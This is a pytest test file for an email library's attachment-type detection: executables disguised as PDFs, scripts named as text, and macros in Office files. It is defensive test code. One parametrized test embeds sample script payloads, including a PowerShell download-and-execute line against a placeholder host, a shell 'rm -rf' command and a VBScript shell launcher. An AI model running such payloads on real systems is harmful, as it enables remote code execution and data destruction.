"""True types, families, type mismatches and macro detection."""

from __future__ import annotations

import threading

import pytest

from mailflow.mime import parse_message
from mailflow.mime.families import FAMILY_BY_EXTENSION, family_for
from mailflow.mime.filetypes import detect
from tests.mailflow.mime import samples


def _attachment(data: bytes, name: str, mime: str = "application/octet-stream"):
    parsed = parse_message(samples.with_attachment(data, name, mime))
    (part,) = [p for p in parsed.attachments if p.depth == 0]
    return part


def test_pe_renamed_to_pdf_is_an_executable_mismatch():
    part = _attachment(samples.minimal_pe(), "invoice.pdf", "application/pdf")
    assert part.true_type == "application/vnd.microsoft.portable-executable"
    assert "PE32" in part.true_desc
    assert part.family == "executable"
    assert part.extension == "pdf"
    assert part.type_mismatch


def test_real_pdf_is_not_a_mismatch():
    part = _attachment(samples.minimal_pdf(), "invoice.pdf", "application/pdf")
    assert (part.family, part.type_mismatch) == ("pdf", False)


def test_elf_is_executable():
    part = _attachment(samples.minimal_elf(), "tool")
    assert part.family == "executable"
    assert part.true_desc.startswith("ELF")


def test_png_is_image_and_mismatch_when_named_exe():
    assert _attachment(samples.minimal_png(), "logo.png", "image/png").family == "image"
    assert not _attachment(samples.minimal_png(), "logo.png", "image/png").type_mismatch
    assert _attachment(samples.minimal_png(), "setup.exe").type_mismatch


def test_docx_with_vba_project_has_macros():
    part = _attachment(samples.macro_docx(), "report.docx")
    assert part.family == "office"
    assert part.has_macros
    assert not part.type_mismatch


def test_docx_without_vba_has_no_macros_and_is_not_unpacked():
    parsed = parse_message(samples.with_attachment(samples.plain_docx(), "report.docx"))
    (part,) = parsed.attachments
    assert part.family == "office" and not part.has_macros


def test_ole_with_vba_stream_has_macros():
    ole = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + bytes(500)
        + "WordDocument".encode("utf-16-le")
        + bytes(20)
        + "_VBA_PROJECT".encode("utf-16-le")
    )
    found = detect(ole)
    assert found.family == "office" and found.has_macros


def test_encrypted_office_file_is_encrypted():
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500) + "EncryptedPackage".encode("utf-16-le")
    assert detect(ole).family == "encrypted"


def test_javascript_named_txt_is_a_script_mismatch():
    part = _attachment(samples.JAVASCRIPT, "readme.txt", "text/plain")
    assert part.true_type == "application/javascript"
    assert part.family == "script"
    assert part.type_mismatch


def test_ordinary_prose_is_not_taken_for_a_script():
    prose = b"Dear team,\nthe function of this memo is to set the agenda; see you at 10.\nRegards\n"
    part = _attachment(prose, "memo.txt", "text/plain")
    assert (part.family, part.type_mismatch) == ("text", False)


@pytest.mark.parametrize(
    ("payload", "family"),
    [
        (b"#!/bin/sh\nrm -rf /tmp/x\n", "script"),
        (b'Set o = CreateObject("WScript.Shell")\r\nDim x\r\no.Run "calc"\r\n', "script"),
        (b"$c = New-Object System.Net.WebClient\nIEX $c.DownloadString('http://x')\n", "script"),
        (b'<html><HTA:APPLICATION ID="a"/><script>x()</script></html>', "script"),
        (b"SQLite format 3\x00\x10\x00\x01\x01\x00\x40\x20\x20" + bytes(100), "database"),
        (b"  0\nSECTION\n  2\nHEADER\n  9\n$ACADVER\n  1\nAC1015\n", "cad"),
        (b"-----BEGIN PGP MESSAGE-----\n\nhQEMA+\n-----END PGP MESSAGE-----\n", "encrypted"),
        (b"<!DOCTYPE html><html><body>hi</body></html>", "html"),
    ],
)
def test_families_of_common_content(payload: bytes, family: str):
    assert detect(payload).family == family


def test_html_body_with_binary_signature_is_checked_by_content():
    msg = samples.message()
    msg.set_content(samples.minimal_pe(), maintype="text", subtype="plain")
    parsed = parse_message(msg.as_bytes())
    assert parsed.parts[0].family == "executable"


def test_family_table_covers_every_family():
    from mailflow.mime.types import FAMILIES

    assert set(FAMILY_BY_EXTENSION.values()) == FAMILIES - {"other"}
    assert family_for("application/x-unknown-thing") == "other"
    assert family_for("application/octet-stream", "CDFV2 Encrypted") == "encrypted"


def test_detection_is_thread_safe():
    cases = [
        (samples.minimal_pe(), "executable"),
        (samples.minimal_pdf(), "pdf"),
        (samples.minimal_png(), "image"),
        (samples.make_zip({"a": b"b"}), "archive"),
    ]
    errors: list[str] = []

    def worker() -> None:
        for _ in range(50):
            for data, family in cases:
                got = detect(data).family
                if got != family:
                    errors.append(f"{family} -> {got}")

    threads = [threading.Thread(target=worker) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert errors == []
